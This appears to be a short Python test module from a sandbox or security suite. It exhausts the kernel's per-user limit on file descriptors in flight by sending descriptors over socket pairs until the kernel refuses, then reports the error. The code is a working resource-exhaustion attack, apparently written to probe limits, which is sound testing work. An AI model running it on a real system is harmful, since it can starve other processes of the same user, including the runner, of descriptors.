"""Attacks on what the kernel counts by user, who may be the runner's."""

# ruff: noqa: F403, F405
import errno

from attacks import *

held = []
_many = [0] * 250


def fill_flight():
    """Have as many descriptors on their way as the kernel takes; the error that says no."""
    while True:
        near, far = socket.socketpair()
        held.append((near, far))
        near.setblocking(False)
        try:
            while True:
                socket.send_fds(near, [b"x"], _many)
        except BlockingIOError:
            continue
        except OSError as error:
            return errno.errorcode[error.errno]
